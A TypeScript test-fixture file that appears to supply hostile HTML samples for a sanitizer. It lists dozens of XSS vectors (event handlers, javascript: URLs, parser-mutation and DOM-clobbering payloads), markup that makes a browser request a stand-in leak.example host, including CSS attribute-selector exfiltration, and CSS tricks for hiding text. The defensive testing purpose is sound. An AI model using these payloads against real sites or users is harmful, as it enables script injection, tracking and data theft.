/** Hostile HTML by the trick it plays. `ran()` is what a script would call; whatever is on `leak.example` is asked for by a load. */

const LEAK = 'https://leak.example/';

/** Running something. */
export const scripts: Record<string, string> = {
  script: '<script>ran()</script>',
  'script in mixed case, unclosed': '<p>a<ScRiPt >ran()//',
  'script with a solidus': '<script/x>ran()</script>',
  'event attribute': '<img src=x onerror=ran()>',
  'event attribute behind a solidus': '<img/src=x/onerror=ran()>',
  'event attribute with a line end in its name': '<img src=x one\nrror=ran() onerror\n=\nran()>',
  'event that fires by itself':
    '<details open ontoggle=ran()>x</details><div onfocus=ran() tabindex=0 autofocus>y</div>',
  'animation event': '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=ran()>x</b>',
  'body event': '<body onload=ran() onpageshow=ran()>x',
  'svg event': '<svg onload=ran()><animate onbegin=ran() attributeName=x dur=1s /></svg>',
  'svg script': '<svg><script>ran()</script><script href="data:,ran()" /></svg>',
  'svg foreignObject':
    '<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>',
  'svg use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=ran() /></svg>#x" /></svg>',
  'javascript: link': '<a href="javascript:ran()">x</a>',
  'javascript: with entities': '<a href="&#106;&#x61;v&Tab;a&NewLine;script&colon;ran()">x</a>',
  'javascript: after control characters': '<a href="\u0001\u001f java\tscript:ran()">x</a>',
  'vbscript: and data: links': '<a href="vbscript:ran()">x</a><a href="data:text/html,<script>ran()</script>">y</a>',
  'data: in base64 with parameters':
    '<a href="data:text/html;charset=utf-8;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>',
  iframe: '<iframe src="javascript:parent.ran()"></iframe><iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  frameset: '<frameset onload=ran()><frame src="javascript:parent.ran()"></frameset>',
  'object and embed':
    '<object data="data:text/html,<script>parent.ran()</script>"></object><embed src="javascript:ran()">',
  'form that acts by script':
    '<form action="javascript:ran()"><button autofocus onfocus=ran()>x</button></form><isindex action=javascript:ran() type=submit>',
  'base that turns links into scripts': '<base href="javascript:ran();//"><a href="#">x</a>',
  'meta refresh': '<meta http-equiv=refresh content="0;javascript:ran()">',
  template:
    '<template><script>ran()</script></template><template shadowrootmode=open><img src=x onerror=ran()></template>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  'style that ends early': '<style><a title="</style><img src=x onerror=ran()>"></style>',
  'comment that ends early':
    '<!--><img src=x onerror=ran()>--><!--!><img src=x onerror=ran()><!-- --!><img src=x onerror=ran()>',
  'markup declaration': '<!a foo="><img src=x onerror=ran()>"><?xml version="><img src=x onerror=ran()>"?>',
  CDATA: '<svg><![CDATA[><img src=x onerror=ran()>]]></svg><![CDATA[><img src=x onerror=ran()>]]>',
  'mutation: math, mtext, mglyph, style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  'mutation: form in form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  'mutation: svg, p, style': '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  'mutation: title in svg desc':
    '<svg><desc><noscript><style></noscript><img src=x onerror=ran()></style></desc></svg>',
  'mutation: annotation-xml':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>',
  'mutation: nested tables and links':
    '<a><table><a href="javascript:ran()"><table><a><img src=x onerror=ran()></table></a></table></a>',
  'mutation: select and textarea':
    '<select><textarea></select><img src=x onerror=ran()></textarea><select><style></select><img src=x onerror=ran()></style>',
  'mutation: xmp, noembed, noframes, plaintext':
    '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp><noembed><img title="</noembed><img src=x onerror=ran()>"></noembed>',
  'names that stand in for the tree':
    '<form id=f><input name=firstChild><input name=nextSibling><input name=attributes><input name=getAttribute><input name=localName><input name=nodeType><input name=namespaceURI></form><img name=body><img name=documentElement src=x onerror=ran()>',
  'a form that contains itself by name':
    '<fieldset name=firstChild form=f><form id=f>x</form></fieldset><img src=x onerror=ran()>',
  'custom elements':
    '<x-y onclick=ran() is=z autofocus tabindex=1 onfocus=ran()>x</x-y><button is=x-z onfocus=ran() autofocus>y</button>',
  'XML namespaces': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script><html:script>ran()</html:script>',
  'style that runs in old engines':
    '<b style="width:expression(ran());behavior:url(#x);-moz-binding:url(data:,ran())">x</b>',
  'NUL and odd characters in names':
    '<scr\0ipt>ran()</scr\0ipt><img src=x on\0error=ran()><img src=x onerror\u000b=ran()>',
};

/** Asking for something. */
export const loads: Record<string, string> = {
  picture: `<img src="${LEAK}a.png"><img srcset="${LEAK}b.png 1x, ${LEAK}c.png 2x" src=""><image src="${LEAK}d.png">`,
  'picture by two solidi':
    '<img src="//leak.example/a.png"><img src="\\\\leak.example\\a.png"><img src="http:/leak.example/a">',
  'picture with a line end in its address': `<img src="ht\ntps://leak.example/a.png"><img src=" \t${LEAK}b.png">`,
  'lazy and low-quality pictures': `<img loading=eager src="${LEAK}a"><img lowsrc="${LEAK}b" dynsrc="${LEAK}c" longdesc="${LEAK}d">`,
  'picture element': `<picture><source srcset="${LEAK}a.png"><img src="${LEAK}b.png"></picture>`,
  'input picture': `<input type=image src="${LEAK}a.png">`,
  'relative picture': '<img src="a.png"><img src="/b.png"><img src="?c"><img src="#">',
  'background attributes': `<body background="${LEAK}a"><table background="${LEAK}b"><tr background="${LEAK}c"><td background="${LEAK}d">x`,
  'style: backgrounds': `<b style="background:url(${LEAK}a)">x</b><b style="background-image:url('${LEAK}b')">x</b><b style='background:#fff URL("${LEAK}c") no-repeat'>x</b>`,
  'style: escaped words': `<b style="background:u\\72l(${LEAK}a)">x</b><b style="back\\67round:url(${LEAK}b)">x</b>`,
  'style: comments within': `<b style="background:u/**/rl(${LEAK}a);/*;*/background:/**/url(${LEAK}b)">x</b>`,
  'style: image-set, cross-fade, gradients': `<b style="background:image-set('${LEAK}a' 1x);background:-webkit-image-set(url(${LEAK}b) 1x)">x</b>`,
  'style: list, border, cursor, mask, content': `<ul style="list-style:url(${LEAK}a)"><li>x</ul><b style="border-image:url(${LEAK}b) 1;cursor:url(${LEAK}c),auto;mask:url(${LEAK}d);content:url(${LEAK}e);filter:url(${LEAK}f#x);clip-path:url(${LEAK}g#x);shape-outside:url(${LEAK}h)">x</b>`,
  'style: quotes that do not end': `<b style="font-family:'x;background:url(${LEAK}a)">x</b><b style='color:red;"background:url(${LEAK}b)'>x</b>`,
  'style: variables': `<b style="--x:url(${LEAK}a);background:var(--x)">x</b>`,
  'style sheet: import': `<style>@import "${LEAK}a.css";@import url(${LEAK}b.css);</style>x`,
  'style sheet: font': `<style>@font-face{font-family:f;src:url(${LEAK}a)}*{font-family:f}</style>x`,
  'style sheet: rules': `<style>*{background:url(${LEAK}a)}p{background:url(${LEAK}b)}.x{list-style:url(${LEAK}c)}</style><p class=x>x`,
  'style sheet: by attribute, letter by letter': `<style>[href^="https:"]{background:url(${LEAK}h)}</style><a href="https://secret.example">x</a>`,
  'style sheet in svg': `<svg><style>*{background:url(${LEAK}a)}</style></svg>`,
  'style sheet linked': `<link rel=stylesheet href="${LEAK}a.css"><link rel="alternate stylesheet" href="${LEAK}b.css">`,
  'links that load ahead': `<link rel=prefetch href="${LEAK}a"><link rel=preload as=image href="${LEAK}b"><link rel=dns-prefetch href="${LEAK}"><link rel=preconnect href="${LEAK}"><link rel=modulepreload href="${LEAK}c"><link rel=icon href="${LEAK}d"><link rel=manifest href="${LEAK}e">`,
  'ping of a link': `<a href="https://ok.example/" ping="${LEAK}a" attributionsrc="${LEAK}b" download>x</a>`,
  'video, audio, track': `<video src="${LEAK}a" poster="${LEAK}b" autoplay><track src="${LEAK}c" default><source src="${LEAK}d"></video><audio src="${LEAK}e" autoplay>`,
  frames: `<iframe src="${LEAK}a"></iframe><frameset><frame src="${LEAK}b"></frameset><portal src="${LEAK}c"></portal><fencedframe></fencedframe>`,
  'object, embed, applet': `<object data="${LEAK}a"><param name=src value="${LEAK}b"></object><embed src="${LEAK}c"><applet code=x codebase="${LEAK}d"></applet>`,
  'svg pictures and references': `<svg><image href="${LEAK}a" xlink:href="${LEAK}b" /><use href="${LEAK}c#x" /><feImage href="${LEAK}d" /><filter id=f><feImage xlink:href="${LEAK}e" /></filter></svg>`,
  'svg as a data: picture': `<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${LEAK}a"/></svg>'>`,
  math: `<math href="${LEAK}a"><mglyph src="${LEAK}b" /></math>`,
  'base for relative addresses': `<base href="${LEAK}"><img src="a.png"><a href="b">x</a>`,
  'meta: refresh, csp report': `<meta http-equiv=refresh content="0;url=${LEAK}a"><meta http-equiv="Content-Security-Policy" content="default-src 'none';report-uri ${LEAK}b">`,
  form: `<form action="${LEAK}a"><input name=x value=secret autofocus><button formaction="${LEAK}b">x</button></form>`,
  'html manifest, profile': `<html manifest="${LEAK}a"><head profile="${LEAK}b">x`,
  'speculation rules': `<script type=speculationrules>{"prefetch":[{"urls":["${LEAK}a"]}]}</script>`,
  'cite and usemap': `<blockquote cite="${LEAK}a">x</blockquote><img usemap="${LEAK}b" src=""><map name=m><area href="${LEAK}c"></map>`,
  'pictures of the host by blob: and file:':
    '<img src="blob:http://mail.example/0f0f0f0f"><img src="file:///etc/passwd"><img src="filesystem:http://mail.example/x">',
};

/** Not showing `SECRET`, which a quoting answer must then not contain. */
export const hidings: Record<string, string> = {
  'display:none': '<div style="display:none">SECRET</div>',
  'display:none, important, in capitals': '<div style="DISPLAY : NONE ! IMPORTANT; display:block">SECRET</div>',
  visibility: '<div style="visibility:hidden">SECRET</div><p style="visibility:collapse">SECRET</p>',
  opacity:
    '<div style="opacity:0">SECRET</div><div style="opacity:1%">SECRET</div><div style="opacity:.01">SECRET</div>',
  'hidden attribute': '<div hidden>SECRET</div><div hidden=until-found>SECRET</div>',
  'no size':
    '<div style="font-size:0">SECRET</div><span style="font:0/0 a">SECRET</span><font style="font-size:0.01em">SECRET</font>',
  'small by steps': `${'<div style="font-size:50%">'.repeat(4)}SECRET${'</div>'.repeat(4)}`,
  'white on white':
    '<span style="color:#fff">SECRET</span><font color=white>SECRET</font><span style="color:rgb(254,254,254)">SECRET</span>',
  'white on white by the body': '<body bgcolor=white text=#fefefe>SECRET',
  'black on black':
    '<div style="background:#000"><span style="color:#010101">SECRET</span></div><p style="background:black">SECRET</p>',
  transparent:
    '<span style="color:transparent">SECRET</span><span style="color:rgba(0,0,0,.02)">SECRET</span><span style="color:#0000">SECRET</span>',
  'no height':
    '<div style="max-height:0;overflow:hidden">SECRET</div><div style="height:0;overflow:hidden">SECRET</div><div style="height:1px;overflow:hidden">SECRET</div>',
  'no width':
    '<div style="width:0;overflow:hidden">SECRET</div><div style="max-width:1px;overflow-x:clip">SECRET</div>',
  'far away':
    '<div style="position:absolute;left:-9999px">SECRET</div><div style="position:fixed;top:-100em">SECRET</div>',
  clipped:
    '<div style="position:absolute;clip:rect(0,0,0,0)">SECRET</div><div style="position:absolute;clip-path:inset(100%)">SECRET</div>',
  'text-indent': '<p style="text-indent:-9999px">SECRET</p>',
  'by a rule of the style sheet':
    '<style>.x{display:none}p.y{visibility:hidden}aside{opacity:0}</style><div class=x>SECRET</div><p class="a y">SECRET</p><aside>SECRET</aside>',
  'elements that are never shown':
    '<title>SECRET</title><template>SECRET</template><noembed>SECRET</noembed><noframes>SECRET</noframes><datalist><option>SECRET</datalist><dialog>SECRET</dialog><ruby>a<rp>SECRET</rp></ruby>',
  'what form controls hold':
    '<input value=SECRET><textarea>SECRET</textarea><select><option>a<option>SECRET</select><input type=hidden value=SECRET>',
  attributes:
    '<p title=SECRET data-x=SECRET aria-label=SECRET id=SECRET class=SECRET>a</p><img alt=SECRET width=1 height=1 src="https://x.example">',
  comments: '<!-- SECRET --><![if !x]><!--[if mso]>SECRET<![endif]-->',
  'fallbacks that a browser replaces':
    '<video>SECRET</video><canvas>SECRET</canvas><audio>SECRET</audio><iframe>SECRET</iframe><meter>SECRET</meter>',
  'svg and math': '<svg><text>SECRET</text><desc>SECRET</desc></svg><math><annotation>SECRET</annotation></math>',
};

/** Tricks that are undone instead: what they would hide or cover, or show to some alone, is shown to everybody. */
export const undone: Record<string, string> = {
  transform: '<div style="transform:scale(0)">SHOWN</div><div style="transform:translate(-9999px)">SHOWN</div>',
  'covered by another':
    '<div>SHOWN</div><div style="position:absolute;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9">x</div>',
  'covered by negative margins':
    '<div style="height:20px">SHOWN</div><div style="margin-top:-40px;background:#fff;height:60px">x</div>',
  'lines upon lines': '<div style="line-height:0">SHOWN<br>x</div><div style="line-height:1px;background:#fff">y</div>',
  'filter and mask': '<div style="filter:opacity(0);mask:linear-gradient(transparent,transparent)">SHOWN</div>',
  'blend mode': '<div style="mix-blend-mode:lighten;background:#fff">SHOWN</div>',
  'on paper only':
    '<style>@media screen{.x{display:none}}@media print{.y{display:none}}</style><p class=x>SHOWN</p><p class=y>b</p>',
  'by width of the window': '<style>@media (max-width:600px){p{display:none}}</style><p>SHOWN</p>',
  'by a selector with a condition':
    '<style>div p{display:none}p:hover,p[lang]{opacity:0}#i{display:none}p:not(.x){display:none}</style><div><p lang=en id=i>SHOWN</p></div>',
  'only when answered':
    '<style>.moz-cite-prefix + blockquote .x{display:none}blockquote .x{display:none}</style><p class=x>SHOWN</p>',
  'text before and after': '<style>p::before{content:"not "}</style><p>SHOWN</p>',
  'turned around': '<bdo dir=rtl>SHOWN</bdo><span style="unicode-bidi:bidi-override;direction:rtl">SHOWN</span>',
  'closed details': '<details><summary>a</summary>SHOWN</details>',
  'out of the window':
    '<div style="margin-left:9999px">SHOWN</div><div style="padding-left:500em">SHOWN</div><div style="white-space:nowrap">SHOWN</div>',
  'faint, but there': '<span style="color:#e0e0e0">SHOWN</span>',
  'font of symbols': '<span style="font-family:Wingdings">SHOWN</span>',
  'small print':
    '<span style="font-size:6px">SHOWN</span><small><small><small><small>SHOWN</small></small></small></small>',
  'scrolled marquee': '<marquee scrollamount=9999>SHOWN</marquee>',
  'white on a picture':
    '<table background="https://x.example/a.png"><tr><td style="color:#fff">SHOWN</table><div style="background:url(x);color:white">SHOWN</div>',
};
